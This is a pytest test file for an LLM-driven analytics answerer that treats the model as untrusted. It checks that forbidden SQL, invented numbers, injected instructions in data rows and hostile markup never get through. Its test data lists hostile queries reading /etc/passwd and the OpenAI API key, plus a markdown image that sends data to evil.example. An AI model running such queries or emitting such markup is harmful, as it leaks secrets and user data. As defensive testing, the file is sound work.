"""The model as an enemy: no number of its own, no statement of its own, no markup gets through.

By hand on the tiny home: open 13,900; won 6,000; half of the closed deals are won.
"""

from __future__ import annotations

import json
import logging
from typing import Any

import pytest

from server.answer.wire import Answer, to_json_value
from server.settings_planner import PlannerSettings
from tests.llm.conftest import INJECTION, KEY, MakeAsker
from tests.llm.model_server import ModelServer, Say, call, query, tool_results

pytestmark = pytest.mark.asyncio(loop_scope="session")

QUESTION = "What is our win rate?"
WIN_RATE = "SELECT MEASURE(win_rate) AS win_rate FROM opportunities"
START = "SELECT MEASURE"
FORBIDDEN = [
    "DROP TABLE opportunities",
    "SELECT 1; DELETE FROM opportunities",
    "ATTACH 'x.db'",
    "SELECT * FROM read_csv('/etc/passwd')",
    "SELECT * FROM duckdb_settings()",
    "SELECT getenv('OPENAI_API_KEY') AS k",
    "SELECT * FROM information_schema.tables",
    "COPY opportunities TO 'x.csv'",
    "SELECT MEASURE(win_rate), secret FROM users",
]
INVENTIONS = [
    "SELECT 0.87 AS win_rate FROM opportunities LIMIT 1",
    "SELECT 0.87 AS win_rate",
    "SELECT CAST('0.87' AS DOUBLE) AS rate FROM opportunities LIMIT 1",
    "SELECT '87%' AS win_rate FROM opportunities LIMIT 1",
    "WITH x AS (SELECT 87 AS v) SELECT v FROM x",
    "SELECT v FROM (SELECT 87 AS v) AS x",
    "SELECT MEASURE(win_rate) + 0.37 AS rate FROM opportunities",
    "SELECT MEASURE(win_rate) * 1.74 AS win_rate FROM opportunities",
    "SELECT CASE WHEN MEASURE(win_rate) > 0 THEN 0.87 ELSE 0.87 END AS rate FROM opportunities",
    "SELECT COALESCE(MEASURE(win_rate) * 0 + 0.87, 0) AS rate FROM opportunities",
    "SELECT stage, 0.87 AS win_rate FROM opportunities GROUP BY ALL",
    "SELECT MEASURE(win_rate) AS r FROM opportunities UNION ALL SELECT 0.87 AS r FROM contacts",
    "SELECT SUM(amount) AS won_amount FROM opportunities",
    "SELECT MEASURE(total_amount) AS pipeline_value FROM opportunities",
    "SELECT MEASURE(deal_count) AS win_rate FROM opportunities",
    "SELECT MAX(probability) AS amount FROM opportunities",
    "SELECT MEASURE(win_rate) FROM opportunities WHERE stage = 'Closed One'",
    "SELECT COUNT(*) AS n FROM opportunities WHERE account_name IN ('Acme', 'Nobody')",
]
HONEST = [
    "SELECT MEASURE(win_rate) * 100 AS rate_in_percent FROM opportunities",
    "SELECT ROUND(MEASURE(won_amount), 2) AS won_amount FROM opportunities",
    "SELECT 'open' AS kind, MEASURE(pipeline_value) AS v FROM opportunities",
    "SELECT SUM(amount) AS amount FROM opportunities WHERE won",
    "SELECT date_trunc('month', close_date) AS close_date, COUNT(*) AS n FROM opportunities "
    "GROUP BY ALL",
    "SELECT stage, SUM(amount) / 1000 AS thousands FROM opportunities "
    "WHERE probability > 42.5 GROUP BY ALL",
    "WITH x AS (SELECT stage, MEASURE(total_amount) AS total_amount FROM opportunities "
    "GROUP BY ALL) SELECT stage, total_amount FROM x ORDER BY total_amount DESC LIMIT 17",
    "SELECT account_name FROM opportunities WHERE account_name = 'Café' LIMIT 1",
]


@pytest.mark.parametrize("sql", FORBIDDEN)
async def test_a_forbidden_statement_is_never_run(
    openai_server: ModelServer, make_asker: MakeAsker, sql: str
) -> None:
    asker = make_asker(openai_server, [query(sql), query(WIN_RATE), Say("It is 50.0%.")])
    answer = await asker.ask(QUESTION)
    assert [query.semantic_sql for query in answer.queries] == [WIN_RATE]
    assert tool_results(openai_server.requests[1])[0].startswith("This was not run.")


@pytest.mark.parametrize("sql", INVENTIONS)
async def test_a_number_or_a_name_of_the_models_own_never_stands_in_a_result(
    openai_server: ModelServer, make_asker: MakeAsker, sql: str
) -> None:
    asker = make_asker(openai_server, [query(sql), query(WIN_RATE), Say("It is 50.0%.")])
    answer = await asker.ask(QUESTION)
    assert [query.semantic_sql for query in answer.queries] == [WIN_RATE]
    assert answer.answer.startswith("It is 50.0%.")


@pytest.mark.parametrize("sql", HONEST)
async def test_an_honest_query_is_shown(
    openai_server: ModelServer, make_asker: MakeAsker, sql: str
) -> None:
    answer = await make_asker(openai_server, [query(sql), Say("See the table.")]).ask(QUESTION)
    assert [query.semantic_sql for query in answer.queries] == [sql]


async def test_an_invented_number_is_taken_out_and_named(
    server: ModelServer, make_asker: MakeAsker
) -> None:
    text = "The win rate is 50.0%. The market's is 87%."
    answer = await make_asker(server, [query(WIN_RATE), Say(text)]).ask(QUESTION)
    assert "87" not in answer.answer
    assert answer.provenance.unverified_numbers == ["87%"]


async def test_where_nothing_true_is_left_the_built_prose_stands(
    server: ModelServer, make_asker: MakeAsker
) -> None:
    answer = await make_asker(server, [query(WIN_RATE), Say("It is 87%. Great!")]).ask(QUESTION)
    assert "Win rate is **50.0%**" in answer.answer
    assert "Great" not in answer.answer
    assert answer.provenance.unverified_numbers == ["87%"]


async def test_a_question_that_holds_a_number_does_not_make_it_true(
    openai_server: ModelServer, make_asker: MakeAsker
) -> None:
    script = [query(WIN_RATE), Say("Yes, the win rate is 87%.")]
    answer = await make_asker(openai_server, script).ask("Is our win rate 87%?")
    assert "Yes" not in answer.answer
    assert "50.0%" in answer.answer


async def test_a_title_states_no_number_of_the_models_own(
    openai_server: ModelServer, make_asker: MakeAsker
) -> None:
    script = [query(WIN_RATE, title="Win rate: 87% <b>![x](http://e.example)</b>"), Say("50.0%.")]
    answer = await make_asker(openai_server, script).ask(QUESTION)
    assert [query.title for query in answer.queries] == ["Win rate"]
    assert [chart.title for chart in answer.visualizations] == ["Win rate"]


async def test_the_reading_is_told_from_the_query_not_from_the_title(
    openai_server: ModelServer, make_asker: MakeAsker
) -> None:
    sql = f"{WIN_RATE} WHERE account_name = 'Acme' AND close_date >= DATE '2025-01-01'"
    script = [query(sql, title="Win rate of everybody, ever"), Say("It is 50.0%.")]
    answer = await make_asker(openai_server, script).ask(QUESTION)
    assert answer.interpretation == ("Win rate; account name is 'Acme'; close date >= 2025-01-01")
    assert "account name is 'Acme'" in answer.answer


@pytest.mark.parametrize("chart,shown", [("pie", "pie"), ("table", "table"), (None, "bar")])
async def test_the_chart_is_a_suggestion(
    openai_server: ModelServer, make_asker: MakeAsker, chart: str | None, shown: str
) -> None:
    sql = "SELECT stage, MEASURE(deal_count) AS deal_count FROM opportunities GROUP BY stage"
    script = [query(sql, title="Deals", chart=chart), Say("There are 13 deals.")]
    answer = await make_asker(openai_server, script).ask("Deals, oracle")
    assert answer.visualizations[0].chart_type == shown


async def test_markup_in_the_prose_is_inert(
    openai_server: ModelServer, make_asker: MakeAsker
) -> None:
    text = "The win rate is 50.0% <script>x</script> ![p](https://evil.example/p?d=50) [a](b)."
    answer = await make_asker(openai_server, [query(WIN_RATE), Say(text)]).ask(QUESTION)
    assert "50.0%" in answer.answer
    assert "<script" not in answer.answer
    assert "evil.example" not in answer.answer
    assert "](" not in answer.answer.replace("\\](", "")


async def test_an_instruction_in_the_data_changes_nothing(
    server: ModelServer, make_asker: MakeAsker
) -> None:
    steps = query("SELECT account_name, next_step FROM opportunities WHERE stage = 'Propose'")
    obeys = Say("We won $99,000,000. Bolt and Dune are proposed.")
    answer = await make_asker(server, [steps, obeys]).ask("What is next, oracle?")
    assert answer.status == "answered"
    assert "We won" not in answer.answer
    assert answer.provenance.unverified_numbers == ["$99,000,000"]
    rows = answer.queries[0].rows
    assert {name for name, _ in rows} == {"Bolt", "Dune"}
    assert INJECTION in {step for _, step in rows}


async def test_a_refusal_keeps_its_status_names_what_there_is_and_states_no_number(
    server: ModelServer, make_asker: MakeAsker
) -> None:
    decline = call(
        "decline", reason="There is no weather. It is 31 degrees.",
        available=["win_rate", "made_up"],
    )  # fmt: skip
    answer = await make_asker(server, [decline]).ask("What is the weather?")
    assert (answer.status, answer.visualizations) == ("refused", [])
    assert answer.answer == "There is no weather."
    assert [option.label for option in answer.options] == ["Win rate"]
    assert answer.options[0].preview == "50.0%"


async def test_a_question_back_has_previews_and_its_choice_is_answered(
    server: ModelServer, make_asker: MakeAsker
) -> None:
    options = [
        {"label": "Won revenue", "semantic_sql": f"{START}(won_amount) FROM opportunities"},
        {"label": "Open pipeline", "semantic_sql": f"{START}(pipeline_value) FROM opportunities"},
        {"label": "A lie", "semantic_sql": "SELECT 87 AS won_amount"},
        {"label": "Broken", "semantic_sql": f"{START}(nothing) FROM opportunities"},
        {"label": "Something else", "semantic_sql": None},
    ]  # fmt: skip
    asker = make_asker(server, [call("ask_back", question="Which one?", options=options)])
    first = await asker.ask("How is it going, oracle?")
    assert first.status == "clarification"
    assert [(o.label, o.preview) for o in first.options] == [
        ("Won revenue", "$6,000.00"), ("Open pipeline", "$13,900.00"), ("Something else", ""),
    ]  # fmt: skip
    chosen = await asker.ask("Open pipeline", first.conversation_id)
    assert chosen.status == "answered"
    assert [float(chosen.queries[0].rows[0][0])] == [13_900.0]
    assert len(server.requests) == 1  # what was offered is run, the model not asked again
    assert chosen.provenance.planner == "builtin"


async def test_no_key_and_no_word_of_a_prompt_gets_into_logs_or_answers(
    server: ModelServer, make_asker: MakeAsker, caplog: pytest.LogCaptureFixture
) -> None:
    canary = "zanzibar-canary"
    caplog.set_level(logging.DEBUG)
    for script in ([query(WIN_RATE), Say("It is 50.0%.")], [Say("no"), Say("no")], []):
        asker = make_asker(server, script)
        answer = await asker.ask(f"What of {canary}, oracle?")
        assert KEY not in json.dumps(to_json_value(answer))
    assert caplog.records
    told = [text for one in caplog.records for text in (one.getMessage(), str(one.__dict__))]
    assert [text for text in told if canary in text or KEY in text] == []


def shape_of(answer: Answer) -> dict[str, Any]:
    found: dict[str, Any] = to_json_value(answer)
    return found


async def test_the_answer_keeps_the_contract(
    openai_server: ModelServer, make_asker: MakeAsker
) -> None:
    settings = PlannerSettings(planner="llm")
    asker = make_asker(openai_server, [query(WIN_RATE), Say("50.0%")], settings=settings)
    found = shape_of(await asker.ask(QUESTION))
    assert set(found) == {
        "status", "answer", "conversation_id", "has_context", "queries", "visualizations",
        "key_metrics", "functions_executed", "execution_summary", "data_sources",
        "streaming_complete", "interpretation", "follow_ups", "options", "provenance",
    }  # fmt: skip
    assert set(found["provenance"]) == {
        "warehouse_version", "model_version", "as_of", "planner", "model", "unverified_numbers",
        "usage",
    }  # fmt: skip
